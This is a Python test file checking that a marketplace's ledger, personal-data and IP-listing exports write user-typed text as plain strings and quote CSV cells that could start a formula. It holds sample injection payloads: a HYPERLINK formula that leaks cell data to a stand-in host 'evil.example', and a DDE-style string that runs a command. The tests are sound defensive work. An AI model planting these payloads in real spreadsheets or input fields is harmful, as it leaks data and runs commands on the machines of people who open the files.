"""Spreadsheet formula injection (issue 13): text a user typed (an organisation's name, a
listing title, an IP title) reaches the finance bureau's and the city's exports. In xlsx it
must be a plain string cell, never a formula; in CSV a cell starting with = + - @ tab or CR
gets a leading single quote. Numbers the platform writes stay numbers."""
import csv
import io
from datetime import date

from openpyxl import load_workbook

from marketplace.listings import services as listings
from marketplace.orders import services as orders
from marketplace.payments import services as payments
from tests.factories import login

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]

def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]

def _csv_cells(data: bytes):
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]

def _assert_text_only(cells, expected: str):
    hits = [c for c in cells if isinstance(c.value, str) and "evil.example" in c.value]
    assert hits, "the payload is not in the export"
    assert all(c.data_type == "s" and c.value == expected for c in hits), [(c.value, c.data_type) for c in hits]
    assert not any(c.data_type == "f" for c in cells)

def _traded_year(factory):
    """A provider whose name is the payload sells a service that is paid today."""
    provider = factory.user("provider", kind="agency", service_agency=True, name=PAYLOAD)
    buyer = factory.user("enterprise", size="small")
    listing = listings.create_listing(provider, "service", {"title": PAYLOAD, "price_fen": 5_000_000})
    listings.publish(provider, listing.id)
    order = orders.order_service(buyer, listing.id, with_voucher=False)
    payments.checkout(buyer, order.id)
    return provider, date.today().year

def test_ledger_export_writes_a_users_formula_as_text(client, factory):
    _provider, year = _traded_year(factory)
    login(client, factory.user("finance"))
    xlsx = client.get(f"/dashboards/exports/ledger?year={year}&format=xlsx")
    assert xlsx.status_code == 200
    cells = _xlsx_cells(xlsx.data)
    _assert_text_only(cells, PAYLOAD)
    amounts = [c for c in cells if c.column == 5 and c.row > 1]
    assert amounts and all(c.data_type == "n" for c in amounts)  # the platform's numbers stay numbers

    rows = list(csv.reader(io.StringIO(client.get(f"/dashboards/exports/ledger?year={year}&format=csv")
                                       .data.decode("utf-8-sig"))))
    values = [v for row in rows for v in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values
    assert all(not v.startswith(FORMULA_START) for v in values)
    assert all(float(r[4]) > 0 for r in rows[1:])  # amounts are written as plain numbers

def test_my_data_export_writes_a_listing_title_as_text(client, factory):
    provider, _year = _traded_year(factory)
    login(client, provider)
    response = client.get("/account/data?format=xlsx")
    assert response.status_code == 200
    _assert_text_only(_xlsx_cells(response.data), PAYLOAD)

def test_ip_exports_neutralise_every_formula_start(client, factory):
    reviewer = factory.user("reviewer")
    holder = factory.user("enterprise", name="@SUM(1+1)*cmd|' /C calc'!A0")
    login(client, reviewer)
    for i, title in enumerate([PAYLOAD] + STARTS):
        response = client.post("/programmes/ip/new", data={
            "organization_id": holder.organization.id, "kind": "invention_patent", "number": f"ZL20201065432{i}.0",
            "title": title, "industry": "biomedicine", "status": "valid"})
        assert response.status_code == 302, response.get_data(as_text=True)
    values = _csv_cells(client.get("/programmes/ip?format=csv").data)
    assert not any(v.startswith(FORMULA_START) for v in values), [v for v in values if v.startswith(FORMULA_START)]
    assert "'" + PAYLOAD in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    cells = _xlsx_cells(client.get("/programmes/ip?format=xlsx").data)
    _assert_text_only(cells, PAYLOAD)
    starting = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("\t\r").startswith(("=", "+", "-", "@"))]
    assert starting and all(c.data_type == "s" for c in starting)

def test_a_control_character_in_a_title_does_not_break_the_workbook(client, factory):
    provider = factory.user("provider", kind="agency", service_agency=True)
    listings.create_listing(provider, "service", {"title": "检测\x07服务\x1b", "price_fen": 100})
    login(client, provider)
    response = client.get("/account/data?format=xlsx")
    assert response.status_code == 200
    assert "检测服务" in [c.value for c in _xlsx_cells(response.data)]
